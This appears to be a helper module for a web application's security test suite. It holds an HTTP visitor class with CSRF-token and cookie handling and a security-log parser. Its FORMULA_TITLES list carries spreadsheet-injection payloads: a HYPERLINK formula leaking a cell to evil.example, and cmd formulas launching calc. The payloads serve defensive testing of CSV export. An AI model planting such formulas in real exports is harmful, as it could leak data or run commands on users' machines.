"""For the attack suite (tests/security): a visitor of a running `pulse serve` over real HTTP
(its own cookies, the CSRF token of the page it last read, an address of its own through the
server's trusted proxy), the server's security log, and the hostile titles of the target."""

from __future__ import annotations

import json
import re
from pathlib import Path

import requests

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')

# Spreadsheet formulas (OWASP's CSV injection examples) as meetup titles.
FORMULA_TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                  "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tabbed", "\r=1+1 returned"]

# An organiser's sign-in; documentation addresses (RFC 5737) stand for visitors behind the proxy:
# they only ever appear in an X-Forwarded-For header, no traffic goes to them.
PASSWORD = "correct horse battery staple"


class Visitor:
    """One browser's worth of state against `base_url`. With `address`, it says so in
    X-Forwarded-For (believed only by a server started with `--trusted-proxy 127.0.0.1`)."""

    def __init__(self, base_url: str, address: str | None = None):
        self.base = base_url.rstrip("/")
        self.http = requests.Session()
        self.http.trust_env = False  # never a proxy from the environment: 127.0.0.1 only
        if address:
            self.http.headers["X-Forwarded-For"] = address
        self.token = ""

    def get(self, path: str, **kwargs) -> requests.Response:
        kwargs.setdefault("allow_redirects", False)
        kwargs.setdefault("timeout", 30)
        response = self.http.get(self.base + path, **kwargs)
        found = CSRF.search(response.text) if "text/html" in response.headers.get("Content-Type", "") else None
        if found:
            self.token = found.group(1)
        return response

    def post(self, path: str, data: dict | None = None, *, token: bool = True, **kwargs) -> requests.Response:
        kwargs.setdefault("allow_redirects", False)
        kwargs.setdefault("timeout", 30)
        form = dict(data or {})
        if token and "csrf_token" not in form:
            if not self.token:
                self.get("/sign-in")
            form["csrf_token"] = self.token
        return self.http.post(self.base + path, data=form, **kwargs)

    def sign_in(self, email: str, password: str = PASSWORD) -> requests.Response:
        self.get("/sign-in")
        return self.post("/sign-in", {"email": email, "password": password, "next": "/"})

    def signed_in(self) -> bool:
        return self.get("/account").status_code == 200

    @property
    def cookie(self) -> str:
        return self.http.cookies.get("pulse_session", "")


def security_events(log: Path) -> list[dict]:
    """The security log lines a server wrote (its stderr), as dicts."""
    events = []
    for line in log.read_text(encoding="utf-8", errors="replace").splitlines():
        if line.startswith('{"ts"'):
            events.append(json.loads(line))
    return events
